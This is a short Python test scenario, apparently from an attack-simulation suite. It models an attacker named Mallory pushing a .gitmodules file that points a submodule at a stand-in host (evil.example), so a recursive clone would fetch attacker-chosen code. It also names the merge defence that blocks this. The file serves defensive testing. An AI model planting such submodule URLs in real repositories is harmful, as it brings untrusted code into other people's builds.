"""Mallory adds a submodule whose address is a command.

Without the defence `git clone --recurse-submodules` of main fetches what Mallory names.
"""

from attacks.mutations import MERGES_ONLY_WHAT_COUNTS
from attacks.objects import SUBMODULE, Node
from attacks.world import World

NAMED = frozenset({"foreign-change"})
DEFENCES = (MERGES_ONLY_WHAT_COUNTS,)


def after_reports(world: World) -> None:
    """Push .gitmodules with its gitlink."""
    text = '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n'
    world.add("mallory", {".gitmodules": text, "x": Node(SUBMODULE, world.opened)})
